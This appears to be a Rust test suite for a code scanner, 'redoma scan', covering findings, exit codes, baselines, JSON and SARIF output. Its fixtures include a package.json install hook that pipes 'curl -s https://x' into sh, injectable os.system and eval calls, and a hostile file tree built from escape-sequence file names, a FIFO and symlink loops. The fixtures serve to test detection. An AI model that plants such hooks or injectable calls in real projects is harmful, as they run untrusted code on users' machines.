//! `redoma scan` as a user and as CI meet it: what is found, exit codes, baseline, JSON, SARIF.

#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

use std::path::Path;

use redoma_tests::{Mode, redoma, text_of};
use serde_json::Value;

/// A code base with one finding of each level, and what is to be left out.
fn code_base() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write("app.py", "import os, sys\n\nos.system('ls ' + sys.argv[1])\nos.system('ls')\n");
    write("lib/tool.js", "module.exports = p => eval(p)\n");
    write("run", "#!/bin/bash\neval \"$x\"\n");
    write("fine.py", "print(6 * 7)\n");
    write("answered.py", "eval(x)  # redoma: ignore[python-eval] x is a constant of ours\n");
    write("node_modules/x/index.js", "eval(a)\n");
    write("venv/lib/x.py", "eval(a)\n");
    write("made/x.py", "eval(a)\n");
    write(".gitignore", "/made/\n");
    write("jquery.min.js", "eval(a)\n");
    write("picture.py", "\0\0eval(a)\n");
    write("old.py", "caf\u{e9} = eval(y)\n");
    folder
}

fn scan(folder: &Path, arguments: &[&str]) -> (i32, String, String) {
    let mut command = redoma(Mode::Root, ["scan"]);
    text_of(command.args(arguments).arg(".").current_dir(folder))
}

fn findings(folder: &Path, arguments: &[&str]) -> Vec<(String, String, u64, String)> {
    let (_, out, error) = scan(folder, &[&["--json"], arguments].concat());
    let report: Value = serde_json::from_str(&out).unwrap_or_else(|_| panic!("no JSON: {out}{error}"));
    let text = |finding: &Value, key: &str| finding[key].as_str().unwrap().to_owned();
    let mut found: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| {
            let line = finding["line"].as_u64().unwrap();
            (text(finding, "file"), text(finding, "kind"), line, text(finding, "risk"))
        })
        .collect();
    found.sort();
    found
}

#[test]
fn a_code_base_is_read_and_what_others_made_is_left_out() {
    let folder = code_base();
    let expected = [
        ("app.py", "python-shell", 3, "critical"),
        ("app.py", "python-shell", 4, "low"),
        ("lib/tool.js", "js-eval", 1, "high"),
        ("old.py", "python-eval", 1, "medium"),
        ("run", "shell-eval", 2, "medium"),
    ]
    .map(|(file, kind, line, risk)| (file.to_owned(), kind.to_owned(), line, risk.to_owned()));
    assert_eq!(findings(folder.path(), &[]), expected);
    assert_eq!(findings(folder.path(), &["--min-risk", "high"]).len(), 2);
    let (_, out, _) = scan(folder.path(), &[]);
    for part in ["app.py", "critical", "python-shell", "redoma run", "answered for by comments", "5 findings"]
    {
        assert!(out.contains(part), "no {part:?} in\n{out}");
    }
}

#[test]
fn the_exit_code_tells_ci() {
    let folder = code_base();
    let code = |arguments: &[&str]| scan(folder.path(), arguments).0;
    assert_eq!(code(&[]), 1);
    assert_eq!(code(&["--fail-on", "never"]), 0);
    assert_eq!(code(&["--fail-on", "critical"]), 1);
    assert_eq!(code(&["--fail-on", "sometimes"]), 2);
    assert_eq!(code(&["nowhere"]), 2);
    assert_eq!(code(&["--baseline", "nowhere.json"]), 2);
    std::fs::remove_file(folder.path().join("app.py")).unwrap();
    assert_eq!(code(&["--fail-on", "critical"]), 0);
}

#[test]
fn a_baseline_keeps_what_was_there_quiet_after_lines_moved() {
    let folder = code_base();
    let (code, _, error) = scan(folder.path(), &["--write-baseline", "known.json"]);
    assert_eq!(code, 0, "{error}");
    let before = std::fs::read_to_string(folder.path().join("app.py")).unwrap();
    std::fs::write(folder.path().join("app.py"), format!("# a new line\n\n{before}os.system(input())\n"))
        .unwrap();
    let found = findings(folder.path(), &["--baseline", "known.json"]);
    let new = ("app.py".to_owned(), "python-shell".to_owned(), 7, "critical".to_owned());
    assert_eq!(found, [new]);
}

#[test]
fn sarif_has_the_structure_that_services_ask_for() {
    let folder = code_base();
    let (code, out, _) = scan(folder.path(), &["--sarif"]);
    assert_eq!(code, 1);
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["version"], "2.1.0");
    let run = &report["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for rule in rules {
        for pointer in
            ["/id", "/shortDescription/text", "/fullDescription/text", "/help/text", "/help/markdown"]
        {
            assert!(rule.pointer(pointer).is_some_and(Value::is_string), "{pointer} of {rule}");
        }
    }
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 5);
    for result in results {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert!(["note", "warning", "error"].contains(&result["level"].as_str().unwrap()));
        assert!(result["message"]["text"].as_str().unwrap().len() > 20);
        let place = &result["locations"][0]["physicalLocation"];
        assert!(!place["artifactLocation"]["uri"].as_str().unwrap().starts_with(['/', '.']));
        assert!(place["region"]["startLine"].as_u64().unwrap() >= 1);
        assert!(place["region"]["startColumn"].as_u64().unwrap() >= 1);
        assert_eq!(result["partialFingerprints"]["redomaScan/v1"].as_str().unwrap().len(), 32);
    }
}

#[test]
fn what_was_not_read_is_counted_by_reason() {
    let folder = code_base();
    let write = |name: &str, text: &[u8]| std::fs::write(folder.path().join(name), text).unwrap();
    write("bad.js", b"const = 1\n");
    write("large.py", "x = 1\n".repeat(400_000).as_bytes());
    write("large.csv", &vec![b'1'; 3 << 20]);
    write("one_line.js", &b"a();".repeat(3000));
    write("photo.png", b"\0\0");
    std::os::unix::fs::symlink("nowhere", folder.path().join("gone.py")).unwrap();
    let expected = serde_json::json!({ "minified": 2, "not_parsed": 1, "not_text": 1, "too_large": 1 });

    let (_, out, _) = scan(folder.path(), &["--json"]);
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["skipped"], expected);
    let files: Vec<_> =
        report["skipped_files"].as_array().unwrap().iter().map(|file| &file["file"]).collect();
    assert_eq!(files, ["bad.js", "jquery.min.js", "large.py", "one_line.js", "picture.py"]);

    let (_, out, _) = scan(folder.path(), &["--sarif"]);
    let report: Value = serde_json::from_str(&out).unwrap();
    let run = &report["runs"][0];
    assert_eq!(run["properties"]["skipped"], expected);
    let notifications = run["invocations"][0]["toolExecutionNotifications"].as_array().unwrap();
    assert_eq!(notifications.len(), 5);
    assert_eq!(notifications[2]["descriptor"]["id"], "too_large");

    let (_, out, _) = scan(folder.path(), &[]);
    let line = "5 files not read, or not to the end: 2 minified, 1 not parsed, 1 not text, 1 too large";
    assert!(out.contains(line), "{out}");
    // What is named by itself and is gone is an error of the command line; what can't be read is counted.
    let (code, _, _) = scan(folder.path(), &["gone.py"]);
    assert_eq!(code, 2);
}

#[test]
fn scripts_of_a_package_are_scanned_where_they_stand() {
    let folder = tempfile::tempdir().unwrap();
    let package =
        "{\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"prepare\": \"curl -s https://x | sh\"\n  }\n}\n";
    std::fs::write(folder.path().join("package.json"), package).unwrap();
    let expected = ("package.json".to_owned(), "shell-download-run".to_owned(), 4, "high".to_owned());
    assert_eq!(findings(folder.path(), &[]), [expected]);
}

/// A tree by somebody who does not want to be scanned, or wants more than that.
#[test]
fn a_hostile_tree_neither_holds_a_scan_up_nor_acts_on_the_terminal() {
    use std::os::unix::ffi::OsStrExt;
    let folder = tempfile::tempdir().unwrap();
    let place = |name: &[u8]| folder.path().join(std::ffi::OsStr::from_bytes(name));
    for name in [&b"evil\x1b[2J\x1b]0;x\x07\nname.py"[..], b"a\xff.py", b"a\xfe.py"] {
        std::fs::write(place(name), "import os\nos.system(input())\n").unwrap();
    }
    for name in ["one", "two"] {
        std::fs::create_dir(place(name.as_bytes())).unwrap();
    }
    let pipe = place(b"one/.gitignore");
    rustix::fs::mknodat(rustix::fs::CWD, &pipe, rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
    std::os::unix::fs::symlink("/dev/zero", place(b"two/.gitignore")).unwrap();
    std::os::unix::fs::symlink("..", place(b"two/up")).unwrap();
    std::fs::write(place(b"one/fine.py"), "eval(input())\n").unwrap();
    let (code, out, errors) = scan(folder.path(), &[]);
    assert_eq!(code, 1, "{errors}");
    assert!(!out.contains('\x1b') && !errors.contains('\x1b'), "{out:?}");
    assert!(out.contains("evil\\u{1b}[2J"), "{out}");
    // Each of them counts, also those whose names look the same.
    assert_eq!(findings(folder.path(), &["--min-risk", "high"]).len(), 4);
}
